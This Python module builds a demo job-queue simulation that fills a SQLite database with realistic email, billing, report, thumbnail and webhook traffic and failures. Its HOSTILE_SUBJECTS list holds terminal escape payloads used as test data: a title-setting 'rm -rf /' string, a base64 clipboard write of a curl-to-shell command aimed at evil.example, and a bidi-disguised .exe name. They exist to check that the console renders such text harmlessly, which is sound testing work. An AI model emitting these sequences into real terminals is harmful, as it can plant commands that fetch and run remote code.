"""The demo: a SQLite queue database with realistic history, kept busy by producers and workers.

`seed(path, clock=...)` fills a database with the last hour of traffic (five
queues, several tenants, completed jobs, retries and dead jobs with real-looking
errors), made by the real queue code on a clock that runs fast. `run(path, stop, clock=...)`
then keeps producer and worker threads going in real time, with varied rates,
processing times of tens to hundreds of milliseconds, failures that fill the
dead letter queue, and now and then a worker that dies holding a job.

A few payloads and errors carry hostile text (terminal escapes, bidi overrides),
as real ones do; the console must show them harmlessly.

    python -m qtui.simulation [--db PATH] [--seed-only]

runs until stdin reaches end of file, or SIGTERM / SIGINT.
"""

from __future__ import annotations

import argparse
import functools
import logging
import math
import os
import random
import signal
import sys
import threading
import zlib
from collections.abc import Callable
from pathlib import Path

import attrs

from qtui import paths
from qtui.clock import SYSTEM_CLOCK, Clock, WallClock
from qtui.model import BackendError
from qtui.sqlite_queue import ReservedJob, SQLiteQueue, Worker

log = logging.getLogger("qtui.simulation")

TENANTS = ("acme", "globex", "initech", "umbrella", "hooli", "wayne")

#: Subjects that carry terminal escapes or bidi tricks, as hostile senders write them.
HOSTILE_SUBJECTS = (
    "\x1b]0;rm -rf / # pwned\x07Your invoice is ready",
    "\x1b[2J\x1b[HURGENT: verify your account",
    "\x1b[31mFinal notice\x1b[0m",
    "Quarterly report \u202egnp.exe",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Password reset",
    "\u009b31mC1 control sequence",
)

#: Recipients whose mail server rejects them: these jobs always fail and end up dead.
_BOUNCING_DOMAINS = ("example.invalid", "old-mx.globex.test")


class _WorkerCrash(BaseException):
    """Ends a worker thread mid-job, as a killed process would: no ack, no fail, no goodbye."""


@attrs.frozen
class QueueSpec:
    """How one demo queue behaves."""

    name: str
    per_second: float  # average arrival rate
    millis: tuple[int, int]  # processing time range
    make_payload: Callable[[random.Random], dict[str, object]]
    outcome: Callable[[random.Random, dict[str, object]], str | None]  # error text, or None


def _always_fails(key: str, fraction: float) -> bool:
    """Whether the job identified by `key` belongs to the `fraction` that fail every attempt."""
    return zlib.crc32(key.encode()) / 2**32 < fraction


def _email(rng: random.Random) -> dict[str, object]:
    tenant = rng.choice(TENANTS)
    template = rng.choice(("welcome", "password_reset", "invoice_ready", "weekly_digest"))
    user = rng.choice(("ana", "bo", "chen", "dara", "eli", "fatima", "gus", "hana"))
    domain = rng.choice((f"{tenant}.example", f"mail.{tenant}.example", *_BOUNCING_DOMAINS))
    if domain in _BOUNCING_DOMAINS and rng.random() < 0.93:
        domain = f"{tenant}.example"  # bounces are a minority
    subject = {
        "welcome": f"Welcome to {tenant.title()}!",
        "password_reset": "Reset your password",
        "invoice_ready": f"Your {tenant.title()} invoice is ready",
        "weekly_digest": "Your weekly digest",
    }[template]
    if rng.random() < 0.02:
        subject = rng.choice(HOSTILE_SUBJECTS)
    return {
        "tenant": tenant,
        "template": template,
        "to": f"{user}{rng.randint(1, 999)}@{domain}",
        "subject": subject,
        "locale": rng.choice(("en", "en", "en", "de", "fr", "ja")),
    }


def _email_outcome(rng: random.Random, payload: dict[str, object]) -> str | None:
    to = str(payload["to"])
    if to.endswith(_BOUNCING_DOMAINS):
        return (
            f"SMTPRecipientsRefused: {{'{to}': (550, b'5.1.1 <{to}>:"
            " Recipient address rejected: User unknown')}"
        )
    if payload["subject"] in HOSTILE_SUBJECTS and rng.random() < 0.5:
        subject = payload["subject"]
        return f"SMTPDataError: (554, 'Message rejected: subject {subject} flagged as spam')"
    roll = rng.random()
    if roll < 0.02:
        return "SMTPServerDisconnected: Connection unexpectedly closed"
    if roll < 0.035:
        return "TimeoutError: timed out connecting to smtp.mailgun.org:587 after 10.0s"
    return None


def _billing(rng: random.Random) -> dict[str, object]:
    return {
        "tenant": rng.choice(TENANTS),
        "invoice": f"in_{rng.getrandbits(48):012x}",
        "amount_cents": rng.choice((900, 2900, 9900, 49900, rng.randint(100, 250_000))),
        "currency": rng.choice(("usd", "usd", "eur", "gbp")),
        "attempt_charge": True,
    }


def _billing_outcome(rng: random.Random, payload: dict[str, object]) -> str | None:
    invoice = str(payload["invoice"])
    if _always_fails(invoice, 0.03):
        codes = ("insufficient_funds", "expired_card", "do_not_honor")
        code = codes[zlib.crc32(invoice.encode()) % len(codes)]
        return (
            f"stripe.error.CardError: Request req_{rng.getrandbits(40):010x}:"
            f" Your card was declined. (decline_code={code})"
        )
    if rng.random() < 0.02:
        return (
            "stripe.error.APIConnectionError: Could not connect to Stripe"
            " (https://api.stripe.com). Please check your internet connection and try again."
        )
    return None


def _reports(rng: random.Random) -> dict[str, object]:
    return {
        "tenant": rng.choice(TENANTS),
        "report": rng.choice(("monthly_revenue", "churn", "usage_by_seat", "tax_summary")),
        "period": f"2024-{rng.randint(1, 12):02d}",
        "format": rng.choice(("pdf", "csv", "xlsx")),
    }


def _reports_outcome(rng: random.Random, payload: dict[str, object]) -> str | None:
    roll = rng.random()
    if roll < 0.06:
        return "psycopg.errors.QueryCanceled: canceling statement due to statement timeout"
    if roll < 0.07 and payload["format"] == "xlsx":
        return "MemoryError: cannot allocate 512 MiB for worksheet rows"
    return None


def _thumbnails(rng: random.Random) -> dict[str, object]:
    tenant = rng.choice(TENANTS)
    name = rng.choice(("IMG_%04d.jpg", "IMG_%04d.HEIC", "scan_%04d.png", "avatar_%04d.webp"))
    month = rng.randint(1, 12)
    return {
        "tenant": tenant,
        "object": f"s3://{tenant}-uploads/2024/{month:02d}/{name % rng.randint(1, 9999)}",
        "sizes": [64, 256, 1024],
    }


def _thumbnails_outcome(rng: random.Random, payload: dict[str, object]) -> str | None:
    obj = str(payload["object"])
    if obj.endswith(".HEIC") and _always_fails(obj, 0.2):
        file = f"/tmp/thumb-{rng.getrandbits(32):08x}/{obj.rsplit('/', 1)[1]}"
        return f"PIL.UnidentifiedImageError: cannot identify image file '{file}'"
    if rng.random() < 0.01:
        return (
            "botocore.exceptions.ClientError: An error occurred (SlowDown) when calling"
            " the GetObject operation: Please reduce your request rate."
        )
    return None


def _webhooks(rng: random.Random) -> dict[str, object]:
    tenant = rng.choice(TENANTS)
    path = rng.choice(("events", "billing", "v2/ingest"))
    return {
        "tenant": tenant,
        "endpoint": f"https://hooks.{tenant}.example/qtui/{path}",
        "event": rng.choice(("invoice.paid", "invoice.failed", "user.created", "export.ready")),
        "delivery": f"dlv_{rng.getrandbits(64):016x}",
    }


def _webhooks_outcome(rng: random.Random, payload: dict[str, object]) -> str | None:
    endpoint = payload["endpoint"]
    if payload["tenant"] == "initech" and str(endpoint).endswith("v2/ingest"):
        return f"ConnectionRefusedError: [Errno 111] Connection refused ({endpoint})"
    if payload["tenant"] == "umbrella" and rng.random() < 0.3:
        return f"HTTPError: 503 Service Unavailable from {endpoint}"
    if rng.random() < 0.02:
        host = f"hooks.{payload['tenant']}.example"
        return (
            f"ReadTimeout: HTTPSConnectionPool(host='{host}', port=443):"
            " Read timed out. (read timeout=5)"
        )
    return None


SPECS = (
    QueueSpec("email", 2.0, (30, 150), _email, _email_outcome),
    QueueSpec("billing", 0.5, (100, 300), _billing, _billing_outcome),
    QueueSpec("reports", 0.15, (300, 900), _reports, _reports_outcome),
    QueueSpec("thumbnails", 1.0, (40, 250), _thumbnails, _thumbnails_outcome),
    QueueSpec("webhooks", 1.5, (50, 400), _webhooks, _webhooks_outcome),
)
_BY_NAME = {spec.name: spec for spec in SPECS}

#: Worker names and the queues each takes jobs from, in order.
WORKERS = (
    ("mailer-1", ("email", "webhooks")),
    ("mailer-2", ("email", "webhooks")),
    ("billing-1", ("billing", "email")),
    ("media-1", ("thumbnails",)),
    ("reports-1", ("reports", "thumbnails")),
)

#: Chance per job that a media worker dies holding it (its lease then expires).
_CRASH_CHANCE = 0.003


def _priority(rng: random.Random, queue: str) -> int:
    if queue == "email" and rng.random() < 0.1:
        return 10  # password resets jump the queue
    return 0


# -- seeding ---------------------------------------------------------------------


class _FastClock:
    """A clock the seeder moves forward itself, so an hour of history takes seconds."""

    def __init__(self, start: float) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now


def seed(
    path: str | os.PathLike[str], *, clock: WallClock, minutes: int = 60,
    rng: random.Random | None = None,
) -> None:
    """Fill the database at `path` (created if missing) with the `minutes` of traffic before now.

    Jobs go through the real enqueue, reserve, ack and fail code, so counters,
    retries and dead jobs are exactly as live traffic leaves them. A backlog of
    ready jobs is left for the live workers.
    """
    rng = rng or random.Random()
    end = clock()
    clock = _FastClock(end - minutes * 60)
    with SQLiteQueue.open(path, create=True, durable=False, clock=clock) as q:
        workers = {
            spec.name: q.worker(
                [spec.name], worker_id=f"seed-{spec.name}", lease_seconds=300, retry_base=30
            )
            for spec in SPECS
        }
        while clock.now < end - 60:
            minute_start = clock.now
            for spec in SPECS:
                # A quieter past: a tenth of the live rate, so seeding takes a second or two.
                count = _poisson(rng, spec.per_second * 60 / 10)
                if spec.name == "reports" and rng.random() < 0.1:
                    count += 25  # the nightly batch
                for _ in range(count):
                    q.enqueue(spec.name, spec.make_payload(rng), priority=_priority(rng, spec.name))
            for spec in SPECS:
                worker = workers[spec.name]
                while clock.now < minute_start + 60 and (job := worker.reserve(timeout=0)):
                    clock.now += rng.uniform(*spec.millis) / 1000
                    _finish(worker, job, spec.outcome(rng, job.payload))
            clock.now = minute_start + 60
        for spec in SPECS:
            for _ in range(rng.randint(2, 12)):
                q.enqueue(spec.name, spec.make_payload(rng), priority=_priority(rng, spec.name))
        for worker in workers.values():
            worker.close()


def _poisson(rng: random.Random, mean: float) -> int:
    # Knuth's method; the means here are small.
    limit, count, product = math.exp(-mean), 0, rng.random()
    while product > limit:
        count += 1
        product *= rng.random()
    return count


@functools.cache
def _exception_type(name: str) -> type[Exception]:
    """An exception class named like the library's, so `Worker.run` records "Name: message"."""
    return type(name, (Exception,), {})


def _finish(worker: Worker, job: ReservedJob, error: str | None) -> None:
    if error is None:
        worker.ack(job)
    else:
        worker.fail(job, error)


# -- running ---------------------------------------------------------------------


def run(
    path: str | os.PathLike[str], stop: threading.Event, *, clock: Clock,
    rng: random.Random | None = None,
) -> None:
    """Run producers and workers against the database at `path` until `stop` is set."""
    rng = rng or random.Random()
    with SQLiteQueue.open(path, create=True, clock=clock.time) as q:
        threads = [
            threading.Thread(
                target=_produce,
                args=(q, spec, stop, random.Random(rng.random()), clock),
                name=f"produce {spec.name}",
            )
            for spec in SPECS
        ]
        threads += [
            threading.Thread(
                target=_work,
                args=(q, name, queues, stop, random.Random(rng.random())),
                name=f"work {name}",
            )
            for name, queues in WORKERS
        ]
        for thread in threads:
            thread.start()
        log.info("simulation running: %d producers, %d workers", len(SPECS), len(WORKERS))
        for thread in threads:
            thread.join()
        log.info("simulation stopped")


def _produce(q: SQLiteQueue, spec: QueueSpec, stop: threading.Event, rng: random.Random,
             clock: Clock) -> None:
    next_burst = clock.monotonic() + rng.uniform(20, 60)
    while not stop.wait(rng.expovariate(spec.per_second)):
        try:
            if spec.name == "reports" and clock.monotonic() >= next_burst:
                batch = [spec.make_payload(rng) for _ in range(rng.randint(10, 30))]
                q.enqueue_many(spec.name, batch)
                next_burst = clock.monotonic() + rng.uniform(60, 180)
            q.enqueue(spec.name, spec.make_payload(rng), priority=_priority(rng, spec.name))
        except BackendError as exc:
            log.warning("producer %s: %s", spec.name, exc)
            stop.wait(1.0)


def _work(
    q: SQLiteQueue, name: str, queues: tuple[str, ...], stop: threading.Event, rng: random.Random
) -> None:
    """One worker slot: runs a worker, and starts a new one when it 'crashes'."""
    generation = 1
    while not stop.is_set():
        worker_id = f"{name}.{generation}@{os.getpid()}"
        try:
            worker = q.worker(
                queues, worker_id=worker_id, lease_seconds=10, retry_base=2, retry_cap=120
            )
        except BackendError as exc:
            log.warning("worker %s: %s", worker_id, exc)
            stop.wait(1.0)
            continue

        def handle(job: ReservedJob) -> None:
            spec = _BY_NAME[job.queue]
            stop.wait(rng.uniform(*spec.millis) / 1000)  # the work itself
            if name.startswith("media") and rng.random() < _CRASH_CHANCE:
                raise _WorkerCrash()
            error = spec.outcome(rng, job.payload)
            if error is not None:
                kind, _, message = error.partition(": ")
                raise _exception_type(kind)(message)

        try:
            worker.run(handle, stop)
        except _WorkerCrash:
            log.info("worker %s died holding a job; its lease will expire", worker_id)
            generation += 1
            stop.wait(rng.uniform(3, 8))  # the supervisor restarts it after a while
            continue
        worker.close()
        return


# -- command line -------------------------------------------------------------------


def _stop_on_eof(stop: threading.Event) -> None:
    """Set `stop` when stdin reaches end of file: the console closes the pipe to stop us."""
    try:
        # os.read, not sys.stdin: a buffered reader's lock held by this daemon thread
        # would abort the interpreter at exit.
        while os.read(0, 4096):
            pass
    except OSError:
        pass  # stdin closed or unusable: stop as if it ended
    stop.set()


def main(argv: list[str] | None = None) -> int:
    """Seed the demo database if it is new, then run the simulation until stopped."""
    parser = argparse.ArgumentParser(
        prog="python -m qtui.simulation",
        description="Fill a demo queue database and keep it busy until stdin closes or a"
        " SIGTERM/SIGINT arrives.",
    )
    parser.add_argument(
        "--db", type=Path, default=paths.demo_database(),
        help="database file (created if missing; default: %(default)s)",
    )
    parser.add_argument("--seed-only", action="store_true", help="seed the history, then exit")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s: %(message)s")

    stop = threading.Event()
    for signum in (signal.SIGTERM, signal.SIGINT):
        signal.signal(signum, lambda *_: stop.set())
    try:
        args.db.parent.mkdir(parents=True, exist_ok=True)
        with SQLiteQueue.open(args.db, create=True, clock=SYSTEM_CLOCK.time) as q:
            is_new = not q.snapshot().queues
        if is_new or args.seed_only:
            log.info("seeding %s", args.db)
            seed(args.db, clock=SYSTEM_CLOCK.time)
        if args.seed_only:
            return 0
        threading.Thread(target=_stop_on_eof, args=(stop,), name="stdin", daemon=True).start()
        run(args.db, stop, clock=SYSTEM_CLOCK)
    except BackendError as exc:
        print(f"qtui.simulation: {exc}", file=sys.stderr)
        return 1
    except OSError as exc:
        print(f"qtui.simulation: {args.db}: {exc.strerror or exc}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
